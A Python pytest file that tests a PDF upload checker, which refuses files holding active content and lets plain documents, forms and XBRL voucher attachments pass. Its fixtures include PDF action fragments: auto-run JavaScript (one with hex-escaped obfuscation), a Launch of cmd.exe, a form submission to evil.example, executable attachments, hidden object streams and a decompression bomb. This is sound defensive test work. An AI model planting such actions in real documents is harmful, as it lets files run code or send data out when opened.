"""PDF files that act when they are opened are refused; printed ones, forms and electronic vouchers pass."""

from __future__ import annotations

import random
import zlib

import pytest

from duixian.apps.evidence import pdf_actions
from duixian.apps.evidence.errors import DisguisedFile
from duixian.apps.evidence.pdf_actions import check_pdf

HEAD = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog "
END = b">>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def hidden(inside: bytes) -> bytes:
    return HEAD + END + b"\n5 0 obj\n<</Type /ObjStm /N 1>>\nstream\n" + zlib.compress(inside) + b"\nendstream\nendobj"


@pytest.mark.parametrize(
    "act",
    [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",
        b"/AA<</O<</S/Launch/F(cmd.exe)>>>>",
        b"/Annots[<</Subtype/RichMedia>>]",
        b"/A<</S/SubmitForm/F(http://evil.example/)>>",
    ],
)
def test_scripts_and_programs_are_refused_in_the_open_and_in_object_streams(act: bytes) -> None:
    for content in (HEAD + act + END, hidden(act)):
        with pytest.raises(DisguisedFile) as refused:
            check_pdf(content)
        assert (refused.value.field, "“打印”成新的PDF" in str(refused.value.message)) == ("file", True)


def test_objects_that_pretend_to_lie_in_a_stream_are_seen() -> None:
    fake = HEAD + b"/Note(>>\nstream\n)" + END + b"\n9 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\nendstream"
    with pytest.raises(DisguisedFile):
        check_pdf(fake)


@pytest.mark.parametrize(
    ("names", "kept"),
    [
        (b"/UF(voucher.xbrl)", True),
        (b"/F(a.xml)/UF<FEFF0061002E0078006D006C>", True),
        (b"/UF(tool.exe)", False),
        (b"/UF(a.xml)/UF(b.docm)", False),
        (b"", False),
    ],
)
def test_attachments_are_data_or_refused(names: bytes, kept: bool) -> None:
    content = HEAD + b"/Names<</EmbeddedFiles 2 0 R>>" + END + b"\n3 0 obj<</Type/Filespec" + names + b">>endobj"
    if kept:
        check_pdf(content)
        return
    with pytest.raises(DisguisedFile) as refused:
        check_pdf(content)
    assert "附件单独上传" in str(refused.value.message)


def test_bytes_of_a_picture_are_no_names() -> None:
    """A stream of random bytes holds /JS sooner or later; it is not read."""
    noise = random.Random(1).randbytes(20_000) + b"/JS /Launch" + random.Random(2).randbytes(20_000)
    check_pdf(
        HEAD
        + b"/OpenAction[2 0 R/Fit]/JSX 1"
        + END
        + b"\n4 0 obj<</Length 9>>\nstream\n"
        + noise
        + b"\nendstream\nendobj"
    )


def test_an_object_stream_that_does_not_unfold_is_read_as_it_is() -> None:
    check_pdf(HEAD + END + b"\n5 0 obj<</Type/ObjStm>>\nstream\nlocked\nendstream")
    with pytest.raises(DisguisedFile):
        check_pdf(HEAD + END + b"\n5 0 obj<</Type/ObjStm>>\nstream\n/JS (x)\nendstream")


def test_object_streams_unfold_to_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf_actions, "UNFOLDED", 1000)
    bomb = hidden(bytes(10_000)) + hidden(b"x")
    with pytest.raises(DisguisedFile) as refused:
        check_pdf(bomb)
    assert "展开后过大" in str(refused.value.message)


def test_many_beginnings_without_an_end_are_looked_for_once() -> None:
    """Counted, not timed: what has no end is one stream, however often it begins."""
    assert len(list(pdf_actions._visible(HEAD + b"stream\n" * 50_000))) == 2
